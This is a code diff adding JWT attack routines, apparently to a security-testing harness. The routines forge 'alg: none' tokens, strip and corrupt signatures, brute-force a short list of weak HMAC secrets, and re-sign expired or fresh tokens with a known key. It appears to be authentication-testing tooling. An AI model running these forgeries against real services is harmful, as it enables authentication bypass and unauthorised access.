@@ -372,3 +372,63 @@ def timed(f, *a, **k):
     t = time.monotonic()
     r = f(*a, **k)
     return r, round(time.monotonic() - t, 2)
+
+
+def _b64u(b: bytes) -> str:
+    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()
+
+
+def _b64d(s: str) -> bytes:
+    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))
+
+
+def jwt_sign(header: dict, payload: dict, secret: bytes | None, alg: str = "HS256") -> str:
+    import hashlib
+    import hmac as _hmac
+
+    h = _b64u(json.dumps(header, separators=(",", ":")).encode())
+    p = _b64u(json.dumps(payload, separators=(",", ":")).encode())
+    if secret is None:
+        return f"{h}.{p}."
+    dig = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
+    return f"{h}.{p}." + _b64u(_hmac.new(secret, f"{h}.{p}".encode(), dig).digest())
+
+
+def jwt_attacks(ad: Adapter, state: dict, where: tuple[str, str], token: str, secret: bytes | None,
+                wrap=lambda t: t) -> dict:
+    """where = ("header", name) or ("cookie", name); wrap() turns a token into the presented value."""
+    h, p, sig = token.split(".")
+    header, payload = json.loads(_b64d(h)), json.loads(_b64d(p))
+
+    def present(tok: str):
+        st = {"cookies": [c for c in state["cookies"] if c[0] != where[1]], "headers": dict(state["headers"])}
+        if where[0] == "header":
+            st["headers"][where[1]] = wrap(tok)
+        else:
+            c = next(c for c in state["cookies"] if c[0] == where[1])
+            st["cookies"].append((c[0], wrap(tok), c[2], c[3]))
+        return ad.oracle(st)
+
+    out = {"header": header, "claims": sorted(payload), "lifetime_s": payload.get("exp", 0) - payload.get("iat", 0)
+           if "exp" in payload else None, "control": present(token)}
+    for alg in ("none", "None", "NONE", "nOnE"):
+        out[f"alg {alg}"] = present(jwt_sign({**header, "alg": alg}, payload, None))
+    out["stripped signature"] = present(f"{h}.{p}.")
+    inv = _b64u(bytes(255 - b for b in _b64d(sig)))
+    out["corrupted signature"] = present(f"{h}.{p}.{inv}")
+    import hashlib
+    import hmac as _hmac
+
+    guesses = [b"", b"secret", b"changeme", b"password", b"your-256-bit-secret", b"jwt_secret", b"verdaccio"]
+    alg = header.get("alg", "HS256")
+    if alg in ("HS256", "HS384", "HS512"):
+        dig = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
+        out["weak secret among a few common guesses"] = [g.decode() or "<empty>" for g in guesses
+                                                          if _b64u(_hmac.new(g, f"{h}.{p}".encode(), dig).digest()) == sig]
+    if secret is not None:
+        out["white-box secret verifies the signature"] = jwt_sign(header, payload, secret, alg) == token
+        now = int(time.time())
+        expired = {**payload, "iat": now - 7200, "nbf": now - 7200, "exp": now - 3600}
+        out["expired token re-signed with the real secret"] = present(jwt_sign(header, expired, secret, alg))
+        out["forged fresh token re-signed with the real secret"] = present(jwt_sign(header, {**payload, "iat": now, "exp": now + 600}, secret, alg))
+    return out
